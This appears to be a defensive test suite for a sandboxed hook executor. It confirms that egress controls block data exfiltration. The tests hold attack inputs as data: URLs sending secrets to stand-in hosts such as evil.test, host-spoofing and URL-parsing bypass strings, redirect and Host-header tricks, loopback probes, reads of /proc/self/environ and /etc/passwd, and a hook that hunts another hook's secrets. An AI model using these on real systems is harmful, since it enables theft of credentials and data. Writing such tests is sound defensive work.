import { attackClass } from './attack-class.ts';
import { networkedSandbox, OUTSIDE, OUTSIDE_ADDRESS } from './networked-sandbox.ts';
import { delay, hook, hookArguments, revisionOf } from './sandbox.ts';
import assert from 'node:assert/strict';
import { beforeEach } from 'node:test';
import { DEFAULT_EGRESS_POLICY, type EgressPolicy } from '../../shared/domain/egress.ts';
import { HookRevision } from '../../shared/domain/hook.ts';
import { asAuthorSees } from '../../services/hook-executor/author-view.ts';
import { openSandboxPool } from '../../services/hook-executor/sandbox-pool.ts';
import { startStrongestSandbox } from '../support/strongest-wall.ts';

const world = networkedSandbox();
const attack = attackClass('data exfiltration');
beforeEach(world.reset);

const SECRET = 'the-secret-of-one-hook';
const ONLY_ALLOWED = { ...OUTSIDE, allowed_hosts: ['api.test', '*.trusted.test'] };

/** Tries the requests of `context.body.requests`, each a URL and an init; gives what came of each. */
const SENDS = hook(`
  (async () => {
    const seen = [];
    for (const [url, init] of context.body.requests) {
      seen.push(await fetch(url, init).then((response) => response.status,
        (error) => error.cause?.code ?? error.cause?.message ?? error.message));
    }
    cb(null, { seen });
  })();`);

async function sends(
  requests: [url: string, init?: object][],
  policy: EgressPolicy = ONLY_ALLOWED,
): Promise<unknown[]> {
  const result = await world.result(SENDS, { body: { requests }, policy, limits: { cpu_ms: 1_000 } });
  return (result as { seen: unknown[] }).seen;
}

attack('to hosts that are not among the allowed ones, however they are written', async () => {
  const hosts = [
    ...['evil.test', 'api.test.evil.test', 'evilapi.test', 'trusted.test', 'eviltrusted.test', 'api.test@evil.test'],
    ...['evil.test#api.test', 'evil.test?api.test', 'evil.test\\@api.test', 'evil.test%23.trusted.test', 'a.test'],
    ...[OUTSIDE_ADDRESS, 'api.test\u3002evil.test', 'api\u2024test.evil.test'],
  ];
  const seen = await sends(hosts.map((host) => [`http://${host}/?stolen=${SECRET}`]));
  for (const [i, said] of seen.entries()) {
    assert.match(
      String(said),
      /EGRESS_HOST_NOT_ALLOWED|Invalid URL|Failed to parse URL|includes credentials/,
      hosts[i] ?? String(i),
    );
  }
  assert.deepEqual(world.resolved, []);
});

attack('in the name that a resolver is asked for', async () => {
  assert.deepEqual(await sends([[`http://${SECRET}.evil.test/`], [`http://${SECRET}.test/`]]), [
    'EGRESS_HOST_NOT_ALLOWED',
    'EGRESS_HOST_NOT_ALLOWED',
  ]);
  assert.deepEqual(world.resolved, []);
});

attack('by a redirect of an allowed host to another', async () => {
  world.name('api.test', [OUTSIDE_ADDRESS]);
  world.name('evil.test', [OUTSIDE_ADDRESS]);
  world.answer = (_, response) => response.writeHead(307, { location: world.url('evil.test') }).end();
  const post = { method: 'POST', body: SECRET };
  assert.deepEqual(await sends([[world.url('api.test'), post]]), ['EGRESS_HOST_NOT_ALLOWED']);
  assert.equal(world.outside.length, 1);
});

attack('of credentials, which do not follow a redirect to another host', async () => {
  world.name('api.test', [OUTSIDE_ADDRESS]);
  world.name('evil.test', [OUTSIDE_ADDRESS]);
  world.answer = ({ headers }, response) => {
    if (headers.host?.startsWith('api.test') === true) {
      response.writeHead(302, { location: world.url('evil.test') }).end();
    } else response.end();
  };
  const init = { headers: { authorization: `Bearer ${SECRET}`, cookie: SECRET, 'x-own': '1' } };
  assert.deepEqual(await sends([[world.url('api.test'), init]], OUTSIDE), [200]);
  const [first, second] = world.outside;
  assert.deepEqual([first?.headers.authorization, second?.headers['x-own']], [`Bearer ${SECRET}`, '1']);
  assert.deepEqual([second?.headers.authorization, second?.headers.cookie], [undefined, undefined]);
});

attack('through a front: a Host header for another name than the one that was allowed', async () => {
  world.name('api.test', [OUTSIDE_ADDRESS]);
  const headers = { host: 'evil.test', 'proxy-authorization': SECRET, 'transfer-encoding': 'chunked', te: 'trailers' };
  await sends([[world.url('api.test'), { headers }]]);
  for (const { headers: sent } of world.outside) {
    assert.equal(sent.host, `api.test:${String(world.port)}`);
    for (const name of ['proxy-authorization', 'transfer-encoding', 'te']) assert.equal(sent[name], undefined, name);
  }
  assert.equal(world.outside.length, 1);
});

attack('in more requests than a run may make', async () => {
  world.name('api.test', [OUTSIDE_ADDRESS]);
  const seen = await sends(Array.from({ length: 25 }, () => [world.url('api.test')]));
  assert.deepEqual(
    seen,
    Array.from({ length: 25 }, (_, i) => (i < 20 ? 200 : 'EGRESS_TOO_MANY_REQUESTS')),
  );
  assert.equal(world.outside.length, 20);
});

attack('in one request that is larger than a request may be', async () => {
  world.name('api.test', [OUTSIDE_ADDRESS]);
  const code = hook(`
    fetch(context.body.url, { method: 'POST', body: 'x'.repeat(1_048_577) }).then(
      () => cb(null, { sent: true }), (error) => cb(null, { refused: error.cause.code }));`);
  const seen = await world.result(code, {
    body: { url: world.url('api.test') },
    policy: OUTSIDE,
    limits: { cpu_ms: 2_000 },
  });
  assert.deepEqual(seen, { refused: 'EGRESS_REQUEST_TOO_LARGE' });
  assert.deepEqual(world.outside, []);
});

attack('after the run is over', async () => {
  world.name('api.test', [OUTSIDE_ADDRESS]);
  const code = hook(`
    setInterval(() => fetch(context.body.url).catch(() => {}), 20);
    cb(null, {});`);
  await world.result(code, {
    body: { url: world.url('api.test') },
    policy: OUTSIDE,
    limits: { wall_ms: 1_000, network_calls: 100 },
  });
  await delay(1_700);
  const sentByThen = world.outside.length;
  assert.ok(sentByThen > 0, 'what a run left to be done goes on until its deadline');
  await delay(500);
  assert.equal(world.outside.length, sentByThen);
});

attack('from the bus and from loopback services of the executor’s machine', async () => {
  const targets = [
    'http://127.0.0.1:4222/',
    'http://127.0.0.1:8222/varz',
    'http://127.0.0.1:27017/',
    'http://[::1]:9090/',
  ];
  const seen = await sends(
    targets.map((url) => [url]),
    DEFAULT_EGRESS_POLICY,
  );
  assert.deepEqual(
    seen,
    targets.map(() => 'EGRESS_ADDRESS_NOT_ALLOWED'),
  );
});

attack('from the environment, the command line and the files of the executor', async () => {
  process.env.HOOKMINT_ATTACK_SECRET = SECRET;
  try {
    const found = await world.result(
      hook(`
      const files = ['/proc/self/environ', '/proc/1/environ', '/etc/passwd'];
      const tried = files.map((file) => { try { return require('fs').readFileSync(file); } catch (error) { return error.code; } });
      cb(null, { env: Object.keys(process.env), argv: process.argv, tried });`),
    );
    const { env, tried, ...rest } = found as { env: string[]; tried: string[] };
    assert.deepEqual({ env, tried }, { env: [], tried: Array.from({ length: 3 }, () => 'MODULE_NOT_FOUND') });
    assert.ok(!JSON.stringify(rest).includes(process.cwd()), JSON.stringify(rest));
  } finally {
    delete process.env.HOOKMINT_ATTACK_SECRET;
  }
});

attack('from another hook in the same process: its secrets, its globals, its arguments', async () => {
  const pool = await openSandboxPool(1, startStrongestSandbox);
  try {
    const run = (code: string, secrets: Record<string, string>, body: Record<string, unknown>) =>
      pool.run({ ...revisionOf(code), secrets }, hookArguments(body), Date.now() + 5_000);
    const victim = await run(
      hook(`global.mine = Array.prototype.mine = context.webtask.secrets.KEY + context.body.argument;
        console.log(context.webtask.secrets.KEY); cb(null, {});`),
      { KEY: SECRET },
      { argument: 'the-argument-of-one-run' },
    );
    assert.equal(victim.status, 'ok');
    const thief = await run(
      hook(`
        const seen = new Set(), texts = [], queue = [globalThis, client, scope, context, cb, module0, require0];
        while (queue.length > 0) {
          const value = queue.pop();
          if (typeof value === 'string' || typeof value === 'symbol') { texts.push(String(value)); continue; }
          if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue;
          seen.add(value);
          if (typeof value === 'function') texts.push(Function.prototype.toString.call(value));
          queue.push(Object.getPrototypeOf(value));
          for (const key of Reflect.ownKeys(value)) {
            const { get, set, value: inner } = Object.getOwnPropertyDescriptor(value, key);
            queue.push(key, get, set, inner);
          }
        }
        const all = texts.join(' ');
        cb(null, { looked: texts.length > 500, found: context.body.looksFor.filter(([a, b]) => all.includes(a + b)) });`) +
        '\nvar module0 = module, require0 = require;',
      {},
      // In two parts, so that the thief does not find what it looks for in its own arguments.
      {
        looksFor: [
          ['the-secret', '-of-one-hook'],
          ['the-argument', '-of-one-run'],
        ],
      },
    );
    assert.equal(thief.status === 'ok' && thief.result, '{"looked":true,"found":[]}', JSON.stringify(thief));
  } finally {
    pool.close();
  }
});

attack('of a hook’s own secrets into the log, by console, message, name and stack', async () => {
  const pool = await openSandboxPool(1, startStrongestSandbox);
  try {
    const code = hook(`
      const { KEY } = context.webtask.secrets;
      console.log(KEY, { KEY }, [KEY + KEY]); console.error(new Error(KEY));
      throw Object.assign(new Error('x' + KEY), { name: KEY, stack: 'at ' + KEY });`);
    const runnable = { ...revisionOf(code), secrets: { KEY: SECRET } };
    const { revision: address, limits } = runnable;
    const revision = HookRevision.parse({ hook_id: 'attack', code, limits, revision: address });
    const ran = await pool.run(runnable, hookArguments(), Date.now() + 5_000);
    assert.ok(JSON.stringify(ran).includes(SECRET));
    const seen = JSON.stringify(asAuthorSees(ran, { revision, runnable }));
    assert.ok(!seen.includes(SECRET), seen);
    assert.ok(seen.includes('[secret KEY]'));
  } finally {
    pool.close();
  }
});
